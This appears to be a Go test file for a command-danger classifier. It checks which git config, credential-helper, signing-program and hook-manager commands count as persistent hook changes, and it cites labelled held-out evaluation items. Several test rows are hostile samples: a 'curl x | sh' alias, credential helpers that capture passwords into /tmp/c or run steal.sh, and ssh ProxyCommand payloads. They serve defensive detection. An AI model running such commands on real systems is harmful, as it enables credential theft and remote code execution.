package danger

import (
	"testing"
)

// Tests of githooks.go's rules: what each marks, in every form its tool's
// reference gives, and the everyday neighbours it leaves alone.

// TestHooksPathChangedForGood: core.hooksPath names the folder git runs
// hooks from (git-config(1) core.hooksPath; githooks(5)). "git config"
// writes it to a configuration file, so every later git command in that
// repository (--global: every repository of the user; --system: of the
// machine) runs another folder's hooks, or none when the value is
// /dev/null: hooks turned off for good, not for one command. Unsetting
// it (--unset, --unset-all, git 2.46's "git config unset") changes which
// hooks run the same way (heldout12's y1284, y1298, y1320, y1354, labelled
// git-hooks-config). "git -c core.hooksPath=/dev/null CMD" lasts one
// command (round 6, precision6_test) and reading the key (--get,
// --show-origin, get, --list) changes nothing.
func TestHooksPathChangedForGood(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// git-config(1): "git config [<file-option>] <name> <value>".
		{`git config core.hooksPath /dev/null`, GitHooksConfig},
		{`git config --global core.hooksPath /dev/null`, GitHooksConfig},
		{`git config --system core.hooksPath /dev/null`, GitHooksConfig},
		{`git config --local core.hooksPath ""`, GitHooksConfig},
		{`git config set core.hooksPath /dev/null`, GitHooksConfig},
		{`git config core.hooksPath .githooks`, GitHooksConfig},
		// git-config(1): --unset, --unset-all, and "unset" (git 2.46).
		{`git config --unset core.hookspath`, GitHooksConfig},
		{`git config --unset-all core.hooksPath`, GitHooksConfig},
		{`git config --global --unset core.hooksPath`, GitHooksConfig},
		{`git config unset core.hooksPath`, GitHooksConfig},
		{`git config --file .git/config --unset core.hooksPath`, GitHooksConfig},
		// Everyday: for one command, read, or another key unset.
		{`git -c core.hooksPath=/dev/null commit -m test`, ""},
		{`git config --get core.hooksPath`, ""},
		{`git config get core.hooksPath`, ""},
		{`git config --show-origin core.hooksPath`, ""},
		{`git config core.hooksPath`, ""},
		{`git config --list`, ""},
		{`git config --unset user.email`, ""},
		{`git config --global --unset-all credential.helper`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestInfraHooksPathNull: core.hooksPath names the folder git runs hooks
// from (git-config(1)); /dev/null is no folder, so no hook runs: "git -c
// core.hooksPath=/dev/null commit" is a commit with hooks off, as commit
// -n (README, heldout7's s0415, everyday). The same key set through
// GIT_CONFIG_KEY_n lasts one command too; "git config" writes it for good
// (round 9b: git-hooks-config). Any other folder
// is hooks installed (git-hooks-config, danger_test's
// core.hooksPath=/tmp/h).
func TestInfraHooksPathNull(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`git -c core.hooksPath=/dev/null commit -m test`, ""},
		{`git -c core.hookspath=/dev/null push origin main`, ""},
		{`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/dev/null git commit -m x`, ""},
		// Round 9b: written to a configuration file, hooks stay off for
		// good (heldout12's y1354, families9b_test).
		{`git config core.hooksPath /dev/null`, GitHooksConfig},
		{`git -c core.hooksPath=/tmp/h commit -m x`, GitHooksConfig},
		{`git -c core.hooksPath=.githooks commit -m x`, GitHooksConfig},
		{`git config core.hooksPath .husky`, GitHooksConfig},
		{`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/tmp/h git commit -m x`, GitHooksConfig},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionGitConfigNothing: a git setting that names a program or a
// hook folder runs what it names (git-config(1): core.hooksPath,
// credential.helper, core.fsmonitor, …), but one set to /dev/null or to
// nothing names none: core.hooksPath=/dev/null holds no hooks (hooks off
// for that command, as commit --no-verify; heldout7's s0415), an empty
// credential.helper clears the helper list, core.fsmonitor=false turns
// the monitor off. A real folder or program stays git-hooks-config (the
// battery's ghook-001 and ghook-011).
func TestPrecisionGitConfigNothing(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`git -c core.hooksPath=/tmp/h commit -m x`, GitHooksConfig},
		{`git config core.hooksPath /tmp/hooks`, GitHooksConfig},
		{`git -c core.fsmonitor=./watch.sh status`, GitHooksConfig},
		{`git -c credential.helper='!f() { echo password=x; }; f' push`, GitHooksConfig},
		{`git config alias.co '!curl x | sh'`, GitHooksConfig},
		{`git config core.hooksPath "$HOOKS"`, GitHooksConfig},
		{`git -c core.hooksPath=.githooks commit -m x`, GitHooksConfig},
		// Everyday: the setting names nothing to run.
		{`git -c core.hooksPath=/dev/null commit -m test`, ""},
		{`git -c core.hooksPath=/dev/null push origin main`, ""},
		// Round 9b: written to a configuration file, hooks stay off for
		// good (heldout12's y1354, families9b_test).
		{`git config core.hooksPath /dev/null`, GitHooksConfig},
		{`git -c credential.helper= clone https://example.com/r.git`, ""},
		{`git -c core.fsmonitor=false status`, ""},
		{`git commit --no-verify -m test`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionGitConfigEnvUnset: git(1)'s --config-env=NAME=ENVVAR takes
// the setting's value from ENVVAR, and "it is an error if the <envvar>
// does not exist in the environment": git dies before its subcommand
// runs. An ENVVAR the line does not set, and that is not one every
// session has (HOME, PATH, USER…), is unset (dev6's p0149, p0161, p0476,
// labelled everyday). Set on the line (NAME=… before git, export), or a
// variable always present, the subcommand runs and is judged as usual.
func TestPrecisionGitConfigEnvUnset(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`RECURSE_SUBMODULES=true git --config-env=submodule.recurse=RECURSE_SUBMODULES reset --hard`, GitDiscardWorktree},
		{`export RECURSE_SUBMODULES=true; git --config-env=submodule.recurse=RECURSE_SUBMODULES reset --hard`, GitDiscardWorktree},
		{`git --config-env=core.pager=PAGER_UNUSED_NOT reset --hard HEAD~1 2>/dev/null; git reset --hard`, GitDiscardWorktree},
		{`git --config-env=user.name=USER reset --hard`, GitDiscardWorktree},
		{`git reset --hard`, GitDiscardWorktree},
		// Everyday: the variable is unset, git dies.
		{`git --config-env=submodule.recurse=RECURSE_SUBMODULES reset --hard`, ""},
		{`git --config-env submodule.recurse=RECURSE_SUBMODULES reset --hard`, ""},
		{`git --config-env submodule.recurse=MISSING_RECURSE_SUBMODULES reset --hard`, ""},
		{`git --config-env=color.ui=COLOR_SETTING push --force origin main`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionGitNamedHelpers: a credential helper named by its name
// runs git's installed helper of that name (gitcredentials(7): "If the
// helper name is not an absolute path, then the string git credential-
// is prepended", so "cache --timeout=3600" runs git credential-cache),
// which only stores the passwords git is given; a helper string that
// begins with "!" is a shell snippet and a path to another program runs
// that program, and both stay git-hooks-config. A signing program of
// the kind git-config(1) names for gpg.program and gpg.<format>.program
// (gpg, gpgsm, ssh-keygen) or /bin/true (no signature made) runs no
// payload either (README's heldout11 calls; x0150, x0260, x0479, x0493,
// x0893, x1777).
func TestPrecisionGitNamedHelpers(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`git config --global credential.helper osxkeychain`, ""},
		{`git config --global credential.helper 'cache --timeout=3600'`, ""},
		{`git config --global credential.helper cache`, ""},
		{`git config --global credential.helper store`, ""},
		{`git config --global credential.helper manager`, ""},
		{`git config --global credential.helper manager-core`, ""},
		{`git config --global credential.helper gnome-keyring`, ""},
		{`git config --global credential.helper libsecret`, ""},
		{`git config --global credential.helper /usr/share/doc/git/contrib/credential/libsecret/git-credential-libsecret`, ""},
		{`git config credential.https://github.com.helper wincred`, ""},
		{`git -c credential.helper=cache push`, ""},
		{`git -c gpg.program=/bin/true commit -m 'msg'`, ""},
		{`git -c gpg.program=true commit -m msg`, ""},
		{`git config --global gpg.program gpg2`, ""},
		{`git config --global gpg.program /opt/homebrew/bin/gpg`, ""},
		{`git config --global gpg.x509.program gpgsm`, ""},
		{`git config --global gpg.ssh.program ssh-keygen`, ""},
		// The helper's path as the shell git runs it with reads it (WSL's
		// Git Credential Manager), and the signing program git is told
		// to find with which(1) or command -v.
		{`git config --global credential.helper '/mnt/c/Program\ Files/Git/mingw64/bin/git-credential-manager.exe'`, ""},
		{`git config --global gpg.program $(which gpg)`, ""},
		{`git config --global gpg.program "$(command -v gpg2)"`, ""},
		{`git config --global gpg.program $(which evil.sh)`, GitHooksConfig},
		{`git config --global gpg.program "$(brew --prefix)/bin/gpg"`, GitHooksConfig},
		{`git config --global credential.helper '/mnt/c/Program\ Files/x/steal.exe'`, GitHooksConfig},
		// A shell snippet or another program: it runs.
		{`git config --global credential.helper '!f() { cat >> /tmp/c; }; f'`, GitHooksConfig},
		{`git config credential.helper "!aws codecommit credential-helper $@"`, GitHooksConfig},
		{`git config --global credential.helper /tmp/steal.sh`, GitHooksConfig},
		{`git config --global credential.helper "$HELPER"`, GitHooksConfig},
		{`git -c credential.helper='!f() { echo password=x; }; f' push`, GitHooksConfig},
		{`git -c gpg.program=/tmp/x.sh commit -m msg`, GitHooksConfig},
		{`git config --global gpg.program ./sign.sh`, GitHooksConfig},
		{`git config --global gpg.ssh.program "sh -c 'curl x | sh'"`, GitHooksConfig},
		{`git config --global core.sshCommand 'ssh -o LocalCommand=/tmp/x'`, GitHooksConfig},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestGitLFSAndSecretsInstallHooks: git-lfs-install(1) sets "up the
// clean and smudge filters under the name lfs in the global Git config"
// (programs git runs on every checkout and add) and installs a pre-push
// hook in the current repository; --skip-repo, --skip-smudge and
// --manual leave the filters set. git-lfs-update(1) "Updates the Git
// hooks used by Git LFS" (with --manual it only prints what to add).
// git-secrets' "--install" "Installs git hooks for a repository". Each
// is what a write to .git/hooks or "git config filter.NAME.clean PROG"
// is, as pre-commit install (README's heldout11 call: git lfs install is
// git-hooks-config; x1793). git lfs's reads and .gitattributes edits
// (track, untrack, ls-files, status, env, version, push, uninstall) and
// git secrets' scans stay everyday (heldout11's x1679, x1719, x1770,
// x1797, x1822, x1828).
func TestGitLFSAndSecretsInstallHooks(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`git lfs install`, GitHooksConfig},
		{`git lfs install --skip-repo`, GitHooksConfig},
		{`git lfs install --local --force`, GitHooksConfig},
		{`git lfs install --manual`, GitHooksConfig},
		{`git-lfs install`, GitHooksConfig},
		{`git lfs update`, GitHooksConfig},
		{`git lfs update --force`, GitHooksConfig},
		{`git secrets --install`, GitHooksConfig},
		{`git secrets --install -f ~/.git-templates/git-secrets`, GitHooksConfig},
		{`git-secrets --install`, GitHooksConfig},
		{`git lfs update --manual`, ""},
		{`git lfs uninstall`, ""},
		{`git lfs track '*.psd'`, ""},
		{`git lfs untrack '*.ai'`, ""},
		{`git lfs ls-files`, ""},
		{`git lfs status`, ""},
		{`git lfs env`, ""},
		{`git lfs version`, ""},
		{`git lfs pull`, ""},
		{`git lfs push origin main`, ""},
		{`git lfs install --help`, ""},
		{`git secrets --scan`, ""},
		{`git secrets --register-aws`, ""},
		{`git secrets --list`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionGitProgramsOfTheirKind: git settings that name a program
// git runs, set to the ordinary program of that kind, bring no payload
// (precision6's pager and editor rule, widened by the documentation of
// each key): core.sshCommand of plain ssh with its own options (as
// GIT_SSH_COMMAND is read, plainSSH); core.fsmonitor=true, which
// git-config(1) says enables "the built-in file system monitor daemon"
// (no program named); web.browser of a browser git-web--browse(1) knows;
// diff.external, difftool.*.cmd and mergetool.*.cmd of a diff or merge
// tool git-mergetool(1)'s --tool-help lists, or difftastic's difft (its
// manual: git config diff.external difft). A ProxyCommand or
// LocalCommand, a script path or an unknown program stays
// git-hooks-config (battery ghook-004, ghook-008).
func TestPrecisionGitProgramsOfTheirKind(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`git config core.sshCommand "ssh -i ~/.ssh/id_rsa_work -F /dev/null"`, ""},
		{`git config --global core.sshCommand 'ssh -i ~/.ssh/id_ed25519 -o IdentitiesOnly=yes'`, ""},
		{`git -c core.sshCommand="ssh -i ~/.ssh/deploy_key" clone git@github.com:me/x.git`, ""},
		{`git config core.fsmonitor true`, ""},
		{`git config --global core.fsmonitor true`, ""},
		{`git -c core.fsmonitor=true status`, ""},
		{`git config --global web.browser firefox`, ""},
		{`git config --global diff.external difft`, ""},
		{`git config --global difftool.difftastic.cmd 'difft "$LOCAL" "$REMOTE"'`, ""},
		{`git config --global mergetool.vscode.cmd 'code --wait $MERGED'`, ""},
		{`git config --global mergetool.meld.cmd 'meld "$LOCAL" "$MERGED" "$REMOTE"'`, ""},
		{`git config core.sshCommand 'ssh -o ProxyCommand="sh -c id"'`, GitHooksConfig},
		{`git config --global core.sshCommand 'ssh -o ProxyCommand=/tmp/p'`, GitHooksConfig},
		{`git config core.sshCommand /tmp/ssh.sh`, GitHooksConfig},
		{`git config core.fsmonitor ./watch.sh`, GitHooksConfig},
		{`git config core.fsmonitor .git/hooks/fsmonitor-watchman`, GitHooksConfig},
		{`git config --global web.browser /tmp/b.sh`, GitHooksConfig},
		{`git config diff.external /tmp/d.sh`, GitHooksConfig},
		{`git config --global difftool.x.cmd 'sh -c "curl x | sh"'`, GitHooksConfig},
		{`git config --global mergetool.x.cmd './merge.sh $MERGED'`, GitHooksConfig},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestGithooksSettingsKept: rycus86/githooks' "git hooks" helper
// (docs/command-line-tool.md @ 61720e26) keeps hook settings for later
// git commands: install puts its hook runner into the repository (or,
// --global, into every one); trust marks the repository trusted so its
// hooks run without asking; accept trusts a hook; enable and disable
// switch a hook on or off (a setting kept, not one command's skip); shared
// add and config set shared add a repository whose hooks git runs; config
// set disable turns them off; config set clone-url|clone-branch choose
// the code its next update installs and runs; config accept trusted
// accepts every hook's changes; tools register installs a script folder
// it runs during hooks. README's heldout15 top-up call makes these
// git-hooks-config, and its trust delete|forget (revoke too: the same
// marker reset), exec, update, list and printing everyday; a bracket that
// lists choices ([accept|deny|reset|print]) names no one value (README).
// Lines moved: heldout15's h0757, h0760, h0762, h0765, h0770, h0772,
// h0775, h0791, h0811, h0814, h0817, h0820, h0827.
func TestGithooksSettingsKept(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`git hooks install`, GitHooksConfig},
		{`git hooks install --global`, GitHooksConfig},
		{`git hooks trust`, GitHooksConfig},
		{`git hooks accept pre-commit`, GitHooksConfig},
		{`git hooks enable --shared pre-commit lint.sh`, GitHooksConfig},
		{`git hooks disable pre-commit`, GitHooksConfig},
		{`git hooks shared add --global https://github.com/org/hooks.git`, GitHooksConfig},
		{`git hooks config set shared --local https://example.com/hooks.git`, GitHooksConfig},
		{`git hooks config set disable`, GitHooksConfig},
		{`git hooks config set clone-url https://example.com/githooks.git`, GitHooksConfig},
		{`git hooks config set clone-branch feature-x`, GitHooksConfig},
		{`git hooks config accept trusted`, GitHooksConfig},
		{`git hooks tools register dialog ./scripts`, GitHooksConfig},
		// Everyday: the trust marker taken back, hooks run or listed,
		// settings printed or reset, the helper updated.
		{`git hooks trust revoke`, ""},
		{`git hooks trust delete`, ""},
		{`git hooks trust forget`, ""},
		{`git hooks trust [delete]`, ""}, // heldout15's h0768, h0796: no such argument
		{`git hooks trust [forget]`, ""},
		{`git hooks exec pre-commit`, ""},
		{`git hooks list`, ""},
		{`git hooks update`, ""},
		{`git hooks config print disable`, ""},
		{`git hooks config reset shared`, ""},
		{`git hooks config list --global`, ""},
		{`git hooks shared list`, ""},
		{`git hooks config [accept|deny|reset|print] trusted`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestMoreHookManagers: hook managers beyond those hookInstallers named,
// each by its own documentation, and the runners they are started
// through. CaptainHook's "captainhook install" writes its hooks into
// .git/hooks (captainhook's README); hk's "hk install" does the same (hk's
// docs); overcommit's "--sign" records the configuration's signature so
// its hooks run without the changed-hooks warning (overcommit's README,
// "Security"), as githooks' trust; all git-hooks-config (README heldout12:
// pre-commit install; heldout16: prek install). Started through uv run
// with uv's own options first (uv run --help: --only-group, --group,
// --with take a value), uvx (uv tool run) with its --from, or deno task
// --eval (deno task --help: "Evaluate the passed value as if it was a
// task"), the same. Their run, check and uninstall install nothing.
// Lines moved: heldout16's e0224, heldout15's h0809.
func TestMoreHookManagers(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`captainhook install`, GitHooksConfig},
		{`vendor/bin/captainhook install --force`, GitHooksConfig},
		{`hk install`, GitHooksConfig},
		{`overcommit --sign`, GitHooksConfig},
		{`overcommit --sign pre-commit`, GitHooksConfig},
		{`uv run --only-group dev --locked prek install`, GitHooksConfig},
		{`uv run --with pre-commit pre-commit install`, GitHooksConfig},
		{`uvx pre-commit install`, GitHooksConfig},
		{`uvx --from pre-commit==3.7.0 pre-commit install`, GitHooksConfig},
		{`deno task --eval husky install`, GitHooksConfig},
		// Everyday: hooks run, checked or taken out.
		{`captainhook hook:pre-commit`, ""},
		{`hk run pre-commit`, ""},
		{`hk check`, ""},
		{`overcommit --run`, ""},
		{`uv run --only-group dev pytest`, ""},
		{`uvx ruff check .`, ""},
		{`deno task --eval "echo hello"`, ""},
		{`deno task build`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
